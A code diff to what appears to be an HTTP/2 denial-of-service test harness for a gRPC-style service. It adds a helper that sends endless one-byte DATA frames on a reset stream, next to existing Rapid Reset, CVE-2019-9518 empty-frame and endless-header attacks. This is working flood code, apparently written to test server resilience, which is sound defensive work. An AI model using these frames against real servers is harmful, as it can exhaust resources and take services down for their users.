@@ -81,6 +81,10 @@ class Attacker:
         self._writer.write(self.h2.data_to_send())
         return stream_id
 
+    def send_pending(self) -> None:
+        """Write what the attacker's h2 has prepared."""
+        self._writer.write(self.h2.data_to_send())
+
     def reset_streams(self, path: str, count: int) -> bytes:
         """``count`` calls to ``path``, each reset as soon as it is opened (Rapid Reset)."""
         for _ in range(count):
@@ -143,6 +147,15 @@ def repeated(frame: bytes, count: int) -> Callable[[], bytes]:
 def empty_data(stream_id: int) -> bytes:
     """A DATA frame with no data that does not end its stream (CVE-2019-9518)."""
     return DataFrame(stream_id, b"").serialize()
+
+
+def data_on_a_reset_stream(attacker: Attacker) -> bytes:
+    """A DATA frame of one byte on a stream the attacker opened and reset: each is answered
+    with RST_STREAM (and the connection's window given back), so it can be sent forever."""
+    stream_id = attacker.open_stream("/muxs.Greeter/LotsOfGreetings")
+    attacker.h2.reset_stream(stream_id, ErrorCodes.CANCEL)
+    attacker.send_pending()
+    return DataFrame(stream_id, b"x").serialize()
 
 
 def endless_headers(stream_id: int, continuations: int) -> bytes:
